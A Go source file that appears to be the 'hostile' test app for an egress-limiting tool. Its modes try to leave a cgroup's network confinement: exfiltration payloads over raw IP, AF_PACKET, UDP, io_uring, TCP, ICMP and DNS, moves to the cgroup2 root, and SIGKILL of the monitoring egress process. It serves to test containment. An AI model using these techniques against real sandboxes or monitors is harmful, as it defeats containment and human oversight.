//go:build linux

// Command hostile is the hostile app of egress run's tests: each mode tries
// one way out of the run's cgroup, as a dependency that phones home would,
// and prints one line "MODE: RESULT" (ok, or the error). It only sends to
// the address it is given; the tests give it hosts in their own namespaces.
//
//	hostile [-uid N] MODE ARGS... [, MODE ARGS...]
//
// Modes:
//
//	ping ADDR, ping6 ADDR    an ICMP echo from an unprivileged ping socket
//	raw ADDR                 a raw IP packet (protocol 253)
//	packet IFACE             an Ethernet frame of type 0x88b5 (AF_PACKET)
//	udp ADDR:PORT [COUNT]    unconnected UDP sends
//	udpconn ADDR:PORT        a connected UDP send
//	uring ADDR:PORT          a UDP send through io_uring's IORING_OP_SENDMSG
//	tcp ADDR:PORT            a TCP connect
//	tcploop ADDR:PORT N IV   N connects, IV apart
//	refuse ADDR N            N UDP sends to distinct ports
//	dns SERVER NAME          a lookup over UDP; dnstcp SERVER NAME over TCP
//	escape-root              write its pid to the cgroup2 root's cgroup.procs
//	child-cgroup             make a child of its cgroup and move into it
//	late-child ADDR:PORT     make a TCP socket, move to a child cgroup, connect it
//	kill-egress              SIGKILL its parent and every process named egress
//	caps                     print its capability sets and no_new_privs
//	daemon MODE ARGS...      run MODE in a detached child and return at once
package main

import (
	"context"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	uid := flag.Int("uid", -1, "switch to this uid (and gid) first")
	flag.Parse()
	args := flag.Args()
	if len(args) == 0 {
		fmt.Fprintln(os.Stderr, "usage: hostile [-uid N] MODE ARGS...")
		os.Exit(2)
	}
	if *uid >= 0 {
		if err := syscall.Setgroups(nil); err != nil {
			fail("setgroups", err)
		}
		if err := syscall.Setgid(*uid); err != nil {
			fail("setgid", err)
		}
		if err := syscall.Setuid(*uid); err != nil {
			fail("setuid", err)
		}
	}
	// Steps are separated by ",": escape-root , tcp ADDR:PORT.
	for len(args) > 0 {
		step := args
		rest := []string(nil)
		for i, a := range args {
			if a == "," {
				step, rest = args[:i], args[i+1:]
				break
			}
		}
		fmt.Printf("%s: %s\n", step[0], run(step[0], step[1:]))
		args = rest
	}
}

func fail(what string, err error) {
	fmt.Fprintf(os.Stderr, "hostile: %s: %v\n", what, err)
	os.Exit(2)
}

func result(err error) string {
	var en syscall.Errno
	switch {
	case err == nil:
		return "ok"
	case errors.As(err, &en):
		return en.Error()
	}
	return err.Error()
}

func addr(s string) netip.Addr {
	a, err := netip.ParseAddr(s)
	if err != nil {
		fail("address", err)
	}
	return a
}

func sockaddr4(a netip.Addr, port int) *unix.SockaddrInet4 {
	return &unix.SockaddrInet4{Addr: a.As4(), Port: port}
}

func run(mode string, args []string) string {
	switch mode {
	case "ping":
		return ping(addr(args[0]))
	case "ping6":
		return ping6(addr(args[0]))
	case "raw":
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, 253)
		if err != nil {
			return "socket: " + result(err)
		}
		defer unix.Close(fd)
		return result(unix.Sendto(fd, []byte("exfiltrated over raw IP"), 0, sockaddr4(addr(args[0]), 0)))
	case "packet":
		return packet(args[0])
	case "udp":
		n := 1
		if len(args) > 1 {
			n, _ = strconv.Atoi(args[1])
		}
		ap := netip.MustParseAddrPort(args[0])
		c, err := net.ListenUDP("udp", nil)
		if err != nil {
			return result(err)
		}
		defer c.Close()
		var last error
		for range n {
			if _, err := c.WriteToUDPAddrPort([]byte("exfiltrated over udp"), ap); err != nil {
				last = err
			}
		}
		return result(last)
	case "uring":
		return uringSendmsg(netip.MustParseAddrPort(args[0]))
	case "udpconn":
		c, err := net.Dial("udp", args[0])
		if err != nil {
			return result(err)
		}
		defer c.Close()
		_, err = c.Write([]byte("exfiltrated over connected udp"))
		return result(err)
	case "tcp":
		c, err := net.DialTimeout("tcp", args[0], 2*time.Second)
		if err != nil {
			return result(err)
		}
		c.Write([]byte("exfiltrated over tcp"))
		c.Close()
		return "ok"
	case "tcploop":
		n, _ := strconv.Atoi(args[1])
		iv, _ := time.ParseDuration(args[2])
		ok := 0
		for i := range n {
			c, err := net.DialTimeout("tcp", args[0], time.Second)
			if err == nil {
				ok++
				c.Close()
			}
			fmt.Printf("tcploop %d: %s\n", i, result(err))
			time.Sleep(iv)
		}
		return fmt.Sprintf("%d of %d connected", ok, n)
	case "late-child":
		// A socket made in the run's cgroup, connected after moving to a
		// child cgroup: judged by the connecting process's cgroup.
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			return "socket: " + result(err)
		}
		defer unix.Close(fd)
		if m := childCgroup(); m != "moved" {
			return m
		}
		ap := netip.MustParseAddrPort(args[0])
		return result(unix.Connect(fd, sockaddr4(ap.Addr(), int(ap.Port()))))
	case "escape-root":
		return escapeRoot()
	case "child-cgroup":
		return childCgroup()
	case "refuse":
		a := addr(args[0])
		n, _ := strconv.Atoi(args[1])
		c, err := net.ListenUDP("udp", nil)
		if err != nil {
			return result(err)
		}
		defer c.Close()
		refused := 0
		for i := range n {
			if _, err := c.WriteToUDPAddrPort([]byte("x"), netip.AddrPortFrom(a, uint16(1000+i%60000))); errors.Is(err, syscall.EPERM) {
				refused++
			}
		}
		return fmt.Sprintf("%d of %d refused", refused, n)
	case "dns":
		r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, network, args[0])
		}}
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		as, err := r.LookupHost(ctx, args[1])
		if err != nil {
			var de *net.DNSError
			if errors.As(err, &de) && de.IsNotFound {
				return "not found"
			}
			return "error"
		}
		return strings.Join(as, ",")
	case "dnstcp":
		// A lookup over TCP, as a resolver does after a truncated answer.
		r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "tcp", args[0])
		}}
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		as, err := r.LookupHost(ctx, args[1])
		if err != nil {
			return "error"
		}
		return strings.Join(as, ",")
	case "kill-egress":
		// As "kill -9 $PPID" and "pkill egress" from the app: every process
		// it can see that is egress (or its parent) gets SIGKILL.
		var out []string
		targets := map[int]bool{os.Getppid(): true}
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil {
				continue
			}
			if comm, _ := os.ReadFile("/proc/" + e.Name() + "/comm"); strings.TrimSpace(string(comm)) == "egress" {
				targets[pid] = true
			}
		}
		for pid := range targets {
			out = append(out, fmt.Sprintf("%d %s", pid, result(unix.Kill(pid, unix.SIGKILL))))
		}
		time.Sleep(100 * time.Millisecond)
		return strings.Join(out, "; ")
	case "caps":
		data, _ := os.ReadFile("/proc/self/status")
		var out []string
		for _, l := range strings.Split(string(data), "\n") {
			if strings.HasPrefix(l, "Cap") || strings.HasPrefix(l, "NoNewPrivs") {
				out = append(out, strings.Join(strings.Fields(l), " "))
			}
		}
		return strings.Join(out, "; ")
	case "daemon":
		cmd := exec.Command(os.Args[0], args...)
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		// Detached: no output to keep its parent's pipes open.
		return result(cmd.Start())
	}
	fail("mode", fmt.Errorf("unknown mode %q", mode))
	return ""
}

// ping sends an ICMP echo with a payload from an unprivileged ping socket
// and waits a second for the reply.
func ping(a netip.Addr) string {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP)
	if err != nil {
		return "socket: " + result(err)
	}
	defer unix.Close(fd)
	msg := []byte{8, 0, 0, 0, 0, 1, 0, 1}
	msg = append(msg, "exfiltrated over icmp"...)
	if err := unix.Sendto(fd, msg, 0, sockaddr4(a, 0)); err != nil {
		return "send: " + result(err)
	}
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
	buf := make([]byte, 512)
	n, _, err := unix.Recvfrom(fd, buf, 0)
	if err != nil {
		return "sent, no reply: " + result(err)
	}
	if n > 0 && buf[0] == 0 {
		return "reply"
	}
	return "sent"
}

// ping6 is ping over ICMPv6 (type 128, echo request).
func ping6(a netip.Addr) string {
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_DGRAM, unix.IPPROTO_ICMPV6)
	if err != nil {
		return "socket: " + result(err)
	}
	defer unix.Close(fd)
	msg := append([]byte{128, 0, 0, 0, 0, 1, 0, 1}, "exfiltrated over icmpv6"...)
	if err := unix.Sendto(fd, msg, 0, &unix.SockaddrInet6{Addr: a.As16()}); err != nil {
		return "send: " + result(err)
	}
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
	buf := make([]byte, 512)
	if _, _, err := unix.Recvfrom(fd, buf, 0); err != nil {
		return "sent, no reply: " + result(err)
	}
	return "reply"
}

// packet sends one Ethernet broadcast frame of a local experimental type
// from an AF_PACKET socket on iface: below IP, no cgroup hook sees it.
func packet(iface string) string {
	proto := int(binary.BigEndian.Uint16([]byte{0x88, 0xb5}))
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(uint16(proto))))
	if err != nil {
		return "socket: " + result(err)
	}
	defer unix.Close(fd)
	ifi, err := net.InterfaceByName(iface)
	if err != nil {
		return result(err)
	}
	frame := make([]byte, 14, 64)
	copy(frame, []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
	copy(frame[6:], ifi.HardwareAddr)
	frame[12], frame[13] = 0x88, 0xb5
	frame = append(frame, "exfiltrated over a raw frame"...)
	sa := &unix.SockaddrLinklayer{Protocol: htons(uint16(proto)), Ifindex: ifi.Index, Halen: 6}
	copy(sa.Addr[:], []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
	return result(unix.Sendto(fd, frame, 0, sa))
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// cgroupDir returns the cgroup2 directory of this process as the mount
// table shows it (the host's view: /sys/fs/cgroup or its unified part).
func cgroupDir() (string, error) {
	data, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		return "", err
	}
	var rel string
	for _, l := range strings.Split(string(data), "\n") {
		if strings.HasPrefix(l, "0::") {
			rel = strings.TrimPrefix(l, "0::")
		}
	}
	for _, m := range []string{"/sys/fs/cgroup/unified", "/sys/fs/cgroup"} {
		var st unix.Statfs_t
		if unix.Statfs(m, &st) == nil && st.Type == unix.CGROUP2_SUPER_MAGIC {
			return filepath.Join(m, rel), nil
		}
	}
	return "", errors.New("no cgroup2 mount")
}

// ownCgroup is this process's cgroup2 path as it sees it.
func ownCgroup() string {
	data, _ := os.ReadFile("/proc/self/cgroup")
	for _, l := range strings.Split(string(data), "\n") {
		if v, ok := strings.CutPrefix(l, "0::"); ok {
			return v
		}
	}
	return "?"
}

// escapeRoot moves this process to the root of every cgroup2 mount it can
// find or make: out of the run's cgroup, its tracing and its blocking.
func escapeRoot() string {
	var tried []string
	for _, m := range []string{"/sys/fs/cgroup/unified", "/sys/fs/cgroup"} {
		var st unix.Statfs_t
		if unix.Statfs(m, &st) != nil || st.Type != unix.CGROUP2_SUPER_MAGIC {
			continue
		}
		err := os.WriteFile(filepath.Join(m, "cgroup.procs"), []byte(strconv.Itoa(os.Getpid())), 0)
		if err == nil {
			return "wrote to " + m + ", now in " + ownCgroup()
		}
		tried = append(tried, m+": "+result(err))
	}
	dir, err := os.MkdirTemp("", "hostile-cg-")
	if err == nil {
		defer os.Remove(dir)
		if err = unix.Mount("cgroup2", dir, "cgroup2", 0, ""); err == nil {
			defer unix.Unmount(dir, unix.MNT_DETACH)
			if err = os.WriteFile(filepath.Join(dir, "cgroup.procs"), []byte(strconv.Itoa(os.Getpid())), 0); err == nil {
				return "wrote to a new mount, now in " + ownCgroup()
			}
			tried = append(tried, "new mount: "+result(err))
		} else {
			tried = append(tried, "mount: "+result(err))
		}
	}
	return "refused (" + strings.Join(tried, "; ") + ")"
}

// childCgroup makes a child of this process's cgroup and moves into it, as
// a test suite starting containers does.
func childCgroup() string {
	dir, err := cgroupDir()
	if err != nil {
		return result(err)
	}
	child := filepath.Join(dir, "hostile-child")
	if err := os.Mkdir(child, 0o755); err != nil {
		return "mkdir: " + result(err)
	}
	if err := os.WriteFile(filepath.Join(child, "cgroup.procs"), []byte(strconv.Itoa(os.Getpid())), 0); err != nil {
		return "move: " + result(err)
	}
	return "moved"
}
